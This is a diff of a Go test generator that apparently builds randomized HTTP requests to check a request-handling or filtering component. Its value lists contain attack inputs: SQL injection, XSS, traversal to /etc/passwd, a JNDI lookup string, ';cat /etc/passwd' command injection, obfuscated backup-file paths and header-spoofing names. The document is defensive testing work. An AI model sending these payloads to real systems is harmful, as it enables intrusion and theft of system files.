@@ -582,12 +582,16 @@ var (
 	rvValues = []string{"1", "", "ok", "blue+house", "1'+or+'1'='1", "%27%20or%201=1--", "<script>alert(1)</script>", "%3Cscript%3Ealert(1)%3C/script%3E",
 		"..%2f..%2fetc%2fpasswd", "a%0Ab", "%u0027", "%", "%4", "+", "=", "==", "\\u003c", "select", "/etc/passwd", "javascript:alert(1)",
 		"${jndi:ldap://x.example/a}", ";cat /etc/passwd", "%C0%AE%C0%AE", "caf\xc3\xa9", "\xfe\xff", "%00", "delete", "1e999", "null", "\"", "'", "a;b", "a,b"}
-	rvPaths = []string{"/", "/api/users", "//api//x", "/a;b=c/d", "/a%2e%2e/b", "/x.bak", "/a b", "/a%", "http://h.example:81/p", "/a#x", "*", "/index.php", "/a/b.json", "/.env", "/a%2Fb", "/caf\xc3\xa9", ""}
+	rvPaths = []string{"/", "/api/users", "//api//x", "/a;b=c/d", "/a%2e%2e/b", "/x.bak", "/a b", "/a%", "http://h.example:81/p", "/a#x", "*", "/index.php", "/a/b.json", "/.env", "/a%2Fb", "/caf\xc3\xa9", "",
+		"/x.%62ak", "/x.b%61k", "/x.bak%00", "/a.BAK", "/a.bak/", "/a.bak;x", "/a%2ebak", "/a.bak%20", "/a.ba+k", "/a.%u0062ak", "/a..bak", "/a.", "/a.bak.txt", "/a\\b.bak", "/a%5Cb.bak"}
 	rvTypes = []string{"application/json", "application/x-www-form-urlencoded", "text/plain", "APPLICATION/JSON", " application/json", "application/json; charset=utf-8",
-		"application/vnd.api+json", "application/x-www-form-urlencoded; charset=UTF-8", "text/json", "application/octet-stream", "", ";", "application/json\t", "application/xml+json"}
-	rvHeaderNames = []string{"X-Foo", "x-foo", "Referer", "Accept-Language", "Cookie", "cookie", "Content-Length", "Transfer-Encoding", "Range", "Proxy", "Accept-Charset", "Sec-Fetch-User", "X-Forwarded-For", "If", "Expect", "Connection"}
-	rvMethods     = []string{"GET", "POST", "PUT", "get", "", "PATCH", "DELETE", "OPTIONS", "HEAD", "TRACE", "FOO"}
-	rvProtos      = []string{"HTTP/1.1", "HTTP/1.1", "HTTP/1.1", "HTTP/1.0", "HTTP/2", "HTTP/2.0", "HTTP/3", ""}
+		"application/vnd.api+json", "application/x-www-form-urlencoded; charset=UTF-8", "text/json", "application/octet-stream", "", ";", "application/json\t", "application/xml+json",
+		"application/json;", "application/json ;", "application/jsonx", "Application/Json", "application/json\x0b", "application/json,text/xml", "multipart/form-data", "text/xml",
+		"application/x-www-form-urlencoded\x00", "application/json; charset=utf-7", "application/json;charset=\"utf-8\"", "application/cloudevents+json", "\u00a0application/json"}
+	rvHeaderNames = []string{"X-Foo", "x-foo", "Referer", "Accept-Language", "Cookie", "cookie", "Content-Length", "Transfer-Encoding", "Range", "Proxy", "Accept-Charset", "Sec-Fetch-User", "X-Forwarded-For", "If", "Expect", "Connection",
+		"if", "Content-Range", "X-Middleware-Subrequest", "accept-charset", "Proxy ", "proxy\t", "X-HTTP-Method-Override", "Content-Type", "Host", "User-Agent", "Accept", "X-Caf\xc3\xa9", ""}
+	rvMethods = []string{"GET", "POST", "PUT", "get", "", "PATCH", "DELETE", "OPTIONS", "HEAD", "TRACE", "FOO"}
+	rvProtos  = []string{"HTTP/1.1", "HTTP/1.1", "HTTP/1.1", "HTTP/1.0", "HTTP/2", "HTTP/2.0", "HTTP/3", ""}
 )
 
 func (g *reviewGen) pick(xs []string) string { return xs[g.r.IntN(len(xs))] }
